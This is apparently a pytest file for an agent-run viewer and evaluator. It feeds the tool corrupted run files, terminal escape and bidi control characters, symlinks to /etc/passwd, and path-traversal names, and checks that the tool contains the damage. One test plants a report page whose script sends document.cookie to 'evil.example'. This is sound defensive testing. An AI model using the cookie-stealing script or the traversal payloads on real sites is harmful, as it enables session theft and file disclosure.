"""One bad run among good ones: it is listed with its reason, and the others are shown, compared and converted."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from made_runs import end_event, made_run
from saccade.actions.errors import DataError, NewerSchemaError, UsageError
from saccade.env.trajectory.ownership import SIGNATURE_NAME
from saccade.env.trajectory.trajectory import FILE_NAME, Trajectory
from saccade.tasks.cli.app import app
from saccade.tasks.evaluation.folder import read_config, read_evaluation, read_records
from saccade.tasks.osworld.cache import Cache
from saccade.tasks.report.overview import row
from saccade.tasks.report.pairing import pairing
from saccade.tasks.suites.registry import get_suite
from saccade.tasks.suites.rows import DataRow, read_rows

Spoil = Callable[[Path], object]


def line(text: bytes) -> Spoil:
    """The second line of a run becomes another."""

    def change(folder: Path) -> None:
        file = folder / FILE_NAME
        lines = file.read_bytes().splitlines()
        file.write_bytes(b"\n".join([lines[0], text, *lines[2:]]) + b"\n")

    return change


def instead(make: Callable[[Path], object]) -> Spoil:
    """The trajectory is something else."""

    def change(folder: Path) -> None:
        (folder / FILE_NAME).unlink()
        make(folder / FILE_NAME)

    return change


SPOILED: dict[str, Spoil] = {
    "no json": line(b"{"),
    "deep": line(b"[" * 100_000),
    "a huge number": line(b'{"event":"observation","step":' + b"9" * 5000 + b"}"),
    "an infinite number": line(b'{"event":"observation","step":0,"screenshot":"x","size":[1,1],"time":1e999}'),
    "a broken type": line(b'{"event":"observation","step":[],"screenshot":{},"size":"x","time":null}'),
    "a steering value": line(b'{"event":"a\\nb\\u001b[2J"}'),
    "a key twice": line(b'{"event":"observation","event":"end"}'),
    "no utf-8": line(b"\xff\xfe\x00"),
    "a pipe": instead(os.mkfifo),
    "a device": instead(lambda file: file.symlink_to("/dev/zero")),
    "a link out": instead(lambda file: file.symlink_to("/etc/passwd")),
    "a link in a circle": instead(lambda file: file.symlink_to(FILE_NAME)),
    "a steering name": line(b'{"event":"observation","\\u001b[2J\\u202e":1}'),
}


def command(*words: object) -> tuple[int, str]:
    """Exit status and all output of a command, which raises nothing unexpected."""
    done = CliRunner().invoke(app, [*map(str, words)])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.exit_code, done.output


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    for name in ("a", "bad", "z"):
        made_run(tmp_path / "runs" / name, instruction=f"Job {name}")
    return tmp_path / "runs"


@pytest.mark.parametrize("spoil", SPOILED.values(), ids=SPOILED)
def test_an_overview_shows_the_others(runs: Path, spoil: Spoil) -> None:
    spoil(runs / "bad")
    status, output = command("view", "--no-open", runs)
    assert status == 0
    assert not {"\x1b", "\u202e"} & set(output)
    page = (runs / "overview.html").read_text(encoding="utf-8")
    assert all(word in page for word in ("Job a", "Job z"))
    if (runs / "bad" / FILE_NAME).is_file() or "Unreadable" in page:
        shown = row(runs / "bad", runs)
        assert (shown.outcome, "\n" in shown.why) == ("Unreadable", False)
        assert FILE_NAME in shown.why
    status, output = command("view", "--check", runs)
    assert status == (2 if "bad: " in output else 0)
    assert output.count(": ok: ") == 2


@pytest.mark.parametrize("form", ["osworld", "agentnet", "parquet"])
def test_an_export_writes_the_others(runs: Path, tmp_path: Path, form: str) -> None:
    SPOILED["no json"](runs / "bad")
    lost = made_run(runs / "lost", size=(300, 200))
    lost.image_path(lost.steps[0].observation).unlink()
    status, output = command("export", runs, "--to", form, "--out", tmp_path / "out", "--json")
    told = json.loads(output.splitlines()[-1])
    assert (status, told["runs"], told["steps"]) == (2, ["a", "z"], 2)
    assert len(told["left_out"]) == 2
    assert f"{Path('bad', FILE_NAME)}:2: not JSON" in told["left_out"][0]
    assert "the screenshot of step 1 is unreadable" in told["left_out"][1]
    status, output = command("import", told["out"], "--from", form, "--out", tmp_path / "in", "--json")
    assert (status, json.loads(output.splitlines()[-1])["runs"]) == (0, ["a", "z"])


def evaluation(root: Path, tasks: tuple[str, ...] = ("one", "two")) -> Path:
    for task in tasks:
        for seed in (0, 1):
            made_run(root / task / str(seed), environment=f"miniwob:{task}", seed=seed)
    asked = {"suite": "miniwob", "tasks": list(tasks), "seeds": [0, 1]}
    (root / "eval.json").write_text(json.dumps({"schema_version": 2, "asked": asked}), encoding="utf-8")
    return root


def test_a_comparison_compares_the_others_and_lists_the_bad(tmp_path: Path) -> None:
    evaluation(tmp_path / "a")
    evaluation(tmp_path / "b")
    SPOILED["no json"](tmp_path / "b" / "one" / "0")
    status, output = command("compare", tmp_path / "a", tmp_path / "b", "--json")
    told = json.loads(output.splitlines()[-1])
    assert (status, told["pairs"], told["unpaired"]) == (0, 3, 1)
    (reason,) = told["unreadable"]
    assert f"{Path('b', 'one', '0', FILE_NAME)}:2: not JSON" in reason
    assert "left out: " in command("compare", tmp_path / "a", tmp_path / "b")[1]


def test_a_newer_run_hides_no_other_but_is_not_run_over(tmp_path: Path) -> None:
    root = evaluation(tmp_path / "a")
    file = root / "one" / "0" / FILE_NAME
    file.write_text(
        file.read_text(encoding="utf-8").replace('"schema_version":', '"schema_version":9'), encoding="utf-8"
    )
    bad: list[str] = []
    config, records = read_evaluation(root, bad.append)
    assert (len(records), len(bad)) == (3, 1)
    assert "newer" in bad[0]
    with pytest.raises(NewerSchemaError):
        read_records(root, config, bad.append)


@pytest.mark.parametrize("task", ["../../b", "/etc", "one/../../../b", "link"])
def test_tasks_of_an_evaluation_stay_in_its_folder(tmp_path: Path, task: str) -> None:
    root = evaluation(tmp_path / "deep" / "a")
    other = evaluation(tmp_path / "b")
    (root / "link").symlink_to(other / "one")
    asked = {"suite": "miniwob", "tasks": [task], "seeds": [0]}
    (root / "eval.json").write_text(json.dumps({"schema_version": 2, "asked": asked}), encoding="utf-8")
    with pytest.raises(DataError, match="leads out of its folder"):
        read_evaluation(root)
    assert not list(other.rglob("report.html"))


@pytest.mark.parametrize(
    "asked",
    [
        {},
        {"suite": 5},
        {"suite": "miniwob"},
        {"suite": "miniwob", "tasks": "x", "seeds": [0]},
        {"suite": "miniwob", "tasks": ["x"], "seeds": [1e308]},
    ],
)
def test_an_evaluation_that_says_too_little_is_one_clear_line(tmp_path: Path, asked: object) -> None:
    (tmp_path / "eval.json").write_text(json.dumps({"schema_version": 2, "asked": asked}), encoding="utf-8")
    with pytest.raises(UsageError, match=r"eval\.json is not an evaluation's"):
        read_config(tmp_path)


# ---- suites


PICTURES = {
    "screenspot": ("img_filename", "screenspot_imgs"),
    "screenspot-pro": ("img_filename", "images"),
    "osworld-g": ("image_path", "images"),
    "androidcontrol-low": ("screenshot", "images"),
    "mind2web-task": ("blocks_path", "blocks"),
}


@pytest.mark.parametrize("suite", PICTURES)
@pytest.mark.parametrize("name", ["/etc/passwd", "../../secret.png", "out/secret.png", "a\0b"])
def test_a_suite_names_pictures_in_its_folder(tmp_path: Path, suite: str, name: str) -> None:
    from places import FIXTURES

    chosen = get_suite(suite)
    folder = tmp_path / "suite"
    shutil.copytree(FIXTURES / chosen.folder, folder)
    key, place = PICTURES[suite]
    (folder / place / "out").symlink_to(tmp_path)
    rows = list(chosen.rows(folder, pytest.fail))
    with pytest.raises(DataError, match=r"leads out of its folder"):
        chosen.sample(DataRow("x", {**rows[0].data, key: name}, 0), folder)
    assert chosen.sample(rows[0], folder).screens


def test_one_bad_row_of_a_suite_does_not_hide_the_others(tmp_path: Path) -> None:
    file = tmp_path / "rows.jsonl"
    file.write_bytes(b'{"a": 1}\n{"a": 1, "a": 2}\n' + b"[" * 100_000 + b'\n\xff\n{"a": [1e999, NaN]}\n{"a": 3}\n')
    faults: list[DataError] = []
    rows = list(read_rows(file, faults.append))
    assert [row.index for row in rows] == [0, 1, 2]
    assert [str(fault).split(": ")[0] for fault in faults] == [f"{file}:{number}" for number in (2, 3, 4)]
    with pytest.raises(DataError, match="a number beyond all use"):
        rows[1].numbers("a", 2)


def test_a_list_of_rows_is_bounded_too(tmp_path: Path) -> None:
    for text in ("[" * 100_000, '[{"a": 1, "a": 2}]', "[" + "9" * 5000 + "]", "[" * 150 + "]" * 150):
        (tmp_path / "rows.json").write_text(text, encoding="utf-8")
        with pytest.raises(DataError, match=r"rows\.json.*: not JSON"):
            list(read_rows(tmp_path / "rows.json"))
    (tmp_path / "rows.json").unlink()
    os.mkfifo(tmp_path / "rows.json")
    with pytest.raises(DataError, match="a pipe, not a file"):
        list(read_rows(tmp_path / "rows.json"))


@pytest.mark.parametrize(
    ("task", "name"), [("..", "secret"), ("/", "etc/passwd"), ("t", "../../secret"), ("t", "out/x")]
)
def test_files_of_osworlds_cache_are_in_the_tasks_folder(tmp_path: Path, task: str, name: str) -> None:
    (tmp_path / "secret").write_text("secret", encoding="utf-8")
    (tmp_path / "x").write_text("secret", encoding="utf-8")
    (tmp_path / "cache" / "t").mkdir(parents=True)
    (tmp_path / "cache" / "t" / "out").symlink_to(tmp_path)
    assert Cache(tmp_path / "cache").kept(task, name) is None


# ---- reports


def test_a_report_that_came_with_a_run_is_not_led_to_but_written_anew(runs: Path, tmp_path: Path) -> None:
    """It may hold scripts of others."""
    foreign = "<!doctype html>\n<script>fetch('http://evil.example/' + document.cookie)</script>\n"
    (runs / "a" / "report.html").write_text(foreign, encoding="utf-8")
    (tmp_path / "page.html").write_text(foreign, encoding="utf-8")
    (runs / "z" / "report.html").symlink_to(tmp_path / "page.html")
    assert command("view", "--no-open", runs)[0] == 0
    pages = [(runs / name / "report.html").read_bytes() for name in ("a", "bad", "z")]
    assert not any(b"evil" in page for page in pages)
    assert (tmp_path / "page.html").read_text(encoding="utf-8") == foreign, "the link is replaced, and not followed"
    written = [(runs / name / "report.html").stat().st_mtime_ns for name in ("a", "bad", "z")]
    assert command("view", "--no-open", runs)[0] == 0
    assert written == [(runs / name / "report.html").stat().st_mtime_ns for name in ("a", "bad", "z")]


def test_a_replay_of_others_shows_no_recording_of_this_computer(tmp_path: Path) -> None:
    mine = made_run(tmp_path / "mine", instruction="My own secret job")
    theirs = made_run(tmp_path / "theirs", replay_of=str(tmp_path / "mine"), replay_mode="exact")
    record = {"recording": str(mine.directory), "mode": "exact", "steps": [], "drift": None}
    (theirs.directory / "replay.json").write_text(json.dumps(record), encoding="utf-8")
    shown = pairing(Trajectory.load(theirs.directory))
    assert shown is not None
    assert shown.recording is not None
    (theirs.directory / SIGNATURE_NAME).unlink()
    shown = pairing(Trajectory.load(theirs.directory))
    assert shown is not None
    assert shown.recording is None
    assert "was not made by you on this computer" in shown.note


def test_half_a_character_in_an_evaluation_is_written_as_none(tmp_path: Path) -> None:
    root = evaluation(tmp_path / "a")
    asked = {"suite": "\ud800", "tasks": ["one", "three"], "seeds": [0, 1], "model": "\udfff"}
    (root / "eval.json").write_text(json.dumps({"schema_version": 2, "asked": asked}), encoding="utf-8")
    made_run(root / "three" / "0", end=end_event(1, message="half \ud83d"))
    assert command("view", "--no-open", root)[0] == 0
    assert "\ufffd" in (root / "summary.json").read_text(encoding="utf-8")
